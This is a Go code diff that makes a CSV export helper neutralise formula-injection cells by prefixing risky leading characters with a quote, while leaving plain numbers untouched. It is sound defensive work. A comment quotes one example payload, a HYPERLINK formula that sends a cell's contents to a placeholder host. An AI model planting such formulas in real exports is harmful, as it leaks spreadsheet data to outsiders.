@@ -12,12 +12,61 @@ import (
 	"github.com/pantau-dev/pantau/collector/timeline"
 )
 
-// writeCSV answers rows (the first is the header) as a CSV download named name.csv.
+// writeCSV answers rows (the first is the header) as a CSV download named name.csv, each
+// cell through SafeCell.
 func writeCSV(w http.ResponseWriter, name string, rows [][]string) {
 	w.Header().Set("Content-Type", "text/csv; charset=utf-8")
 	w.Header().Set("Content-Disposition", `attachment; filename="`+strings.ReplaceAll(name, `"`, "")+`.csv"`)
 	cw := csv.NewWriter(w)
-	_ = cw.WriteAll(rows)
+	for _, row := range rows {
+		_ = cw.Write(SafeRow(row))
+	}
+	cw.Flush()
+}
+
+// SafeCell neutralises a CSV cell that a spreadsheet would run as a formula (CSV or
+// formula injection, OWASP): a cell that starts with '=', '+', '-', '@', a tab, a
+// carriage return, a line feed or NUL gets a leading single quote, which spreadsheets
+// take as "text follows" and do not show. Stored text comes from probes and order
+// files, so a reason or an organisation name such as `=HYPERLINK("http://x/?"&A1)` must
+// stay text in the newsroom's spreadsheet.
+//
+// A number stays a number: "-5" and "-0.25" (an optional minus, digits, an optional
+// fraction) are left as they are, since a minus sign followed only by digits cannot be a
+// formula. "-1+2" is not such a number and is neutralised. A reader that wants the
+// original text strips a leading quote that precedes one of those characters.
+func SafeCell(s string) string {
+	if s == "" || isNumber(s) {
+		return s
+	}
+	switch s[0] {
+	case '=', '+', '-', '@', '\t', '\r', '\n', 0:
+		return "'" + s
+	}
+	return s
+}
+
+// SafeRow passes every cell of row through SafeCell, in place, and returns row.
+func SafeRow(row []string) []string {
+	for i, c := range row {
+		row[i] = SafeCell(c)
+	}
+	return row
+}
+
+// isNumber reports whether s is -?[0-9]+(\.[0-9]+)?.
+func isNumber(s string) bool {
+	s = strings.TrimPrefix(s, "-")
+	whole, frac, dot := strings.Cut(s, ".")
+	digits := func(t string) bool {
+		for i := 0; i < len(t); i++ {
+			if t[i] < '0' || t[i] > '9' {
+				return false
+			}
+		}
+		return t != ""
+	}
+	return digits(whole) && (!dot || digits(frac))
 }
 
 func ts(t time.Time) string {
